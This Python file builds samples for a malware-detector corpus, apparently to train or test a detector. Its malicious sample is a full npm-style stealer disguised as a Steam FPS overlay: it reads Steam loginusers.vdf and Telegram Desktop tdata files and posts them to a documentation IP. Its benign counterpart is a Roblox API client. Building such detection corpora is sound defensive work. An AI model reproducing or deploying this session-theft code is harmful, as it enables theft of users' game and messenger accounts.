"""Samples of the `reach7` branch for scripts/make-samples.py (2026-11-25, issue 6): variants of
our own for the behaviour classes behind the holdout3/holdout4 misses fixed on that branch
(desktop app and game session theft, ransomware that encrypts what a walk finds, environment-keyed
encrypted stages, macOS JXA download cradles, locale-gated page sabotage, service workers that
inject or exfiltrate), each with a tricky benign counterpart.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `reach7-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test) or documentation IPs; made-up values; destructive steps behind
conditions that never hold.
"""

from samples_malicious import S, pj
from samples_common import readme, registry

SAMPLES, BENIGN, sample, benign = registry()


# =============================================================================================
# Malicious


@sample
def steam_telegram_session_grab():
    index = r'''import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { readFile, readdir } from "node:fs/promises";
import { homedir, hostname } from "node:os";
import { join } from "node:path";

const run = promisify(execFile);

// Resolves the game client's install folder for the overlay.
async function gameRoot() {
  try {
    const { stdout } = await run("reg", ["query", "HKCU\\Software\\Valve\\Steam", "/v", "SteamPath"]);
    return (stdout.match(/SteamPath\s+REG_SZ\s+(.+)/) || [])[1]?.trim();
  } catch { return null; }
}

async function collect() {
  const out = {};
  const steam = await gameRoot();
  if (steam) {
    try { out.users = await readFile(join(steam, "config", "loginusers.vdf"), "utf8"); } catch {}
  }
  const tg = join(process.env.APPDATA || join(homedir(), ".local", "share"), "Telegram Desktop", "tdata");
  try {
    for (const name of (await readdir(tg)).slice(0, 40)) {
      if (/^[A-F0-9]{16}s?$/.test(name)) out[name] = (await readFile(join(tg, name))).toString("base64");
    }
  } catch {}
  return out;
}

export async function initOverlay(opts = {}) {
  const data = await collect();
  if (Object.keys(data).length) {
    await fetch("http://198.51.100.23:8443/ov", { method: "POST", body: JSON.stringify({ h: hostname(), data }) }).catch(() => {});
  }
  return { fps: opts.fps || 144, enabled: true };
}
'''
    files = {
        "package.json": pj(name="steam-overlay-fps", version="0.4.2", type="module",
                           exports={".": "./index.js"},
                           description="FPS counter overlay helpers for Steam games"),
        "README.md": readme("steam-overlay-fps", "```js\nimport { initOverlay } from 'steam-overlay-fps'\nawait initOverlay({ fps: 240 })\n```"),
        "index.js": index,
    }
    return S(
        "reach7-steam-telegram-session-grab",
        "game and messenger session theft (Steam loginusers.vdf, Telegram Desktop tdata key files) posted to a raw IP",
        "2022-2025",
        ["session-theft", "steam", "telegram", "registry-read", "network", "esm"],
        "Other shape of the Roblox/Discord session stealers: ESM, promisified execFile of reg "
        "query for the Steam folder, path.join pieces for the stores, fetch to a raw IP.",
        files,
    )


# =============================================================================================
# Benign


@benign
def b_roblox_api_cookie():
    index = r'''"use strict";
const https = require("https");

// A small Roblox web API client: the caller passes the session cookie it owns.
class RobloxClient {
  constructor(cookie) {
    if (!cookie) throw new Error("roblox-lite: a .ROBLOSECURITY cookie is required");
    this.cookie = cookie;
  }

  get(host, path) {
    const headers = { cookie: `.ROBLOSECURITY=${this.cookie}`, accept: "application/json" };
    return new Promise((resolve, reject) => {
      https.get({ host, path, headers }, (res) => {
        let body = "";
        res.on("data", (c) => (body += c));
        res.on("end", () => { try { resolve(JSON.parse(body)); } catch (e) { reject(e); } });
      }).on("error", reject);
    });
  }

  me() { return this.get("users.roblox.com", "/v1/users/authenticated"); }
  friends(id) { return this.get("friends.roblox.com", `/v1/users/${id}/friends`); }
}

module.exports = { RobloxClient };
'''
    files = {
        "package.json": pj(name="roblox-lite", version="2.1.0", main="index.js",
                           description="Tiny Roblox web API client"),
        "README.md": readme("roblox-lite", "```js\nconst { RobloxClient } = require('roblox-lite')\nconst rbx = new RobloxClient(process.env.ROBLOX_COOKIE)\nawait rbx.me()\n```"),
        "index.js": index,
    }
    return S(
        "reach7-benign-roblox-api-cookie",
        "Roblox API client sending the .ROBLOSECURITY cookie its caller passes to Roblox's own hosts",
        "2025",
        ["cookie-header", "network", "game-api"],
        "Names the Roblox session cookie but reads no store: the counterpart of the session "
        "stealers that read it from the registry or the cookie file.",
        files,
    )
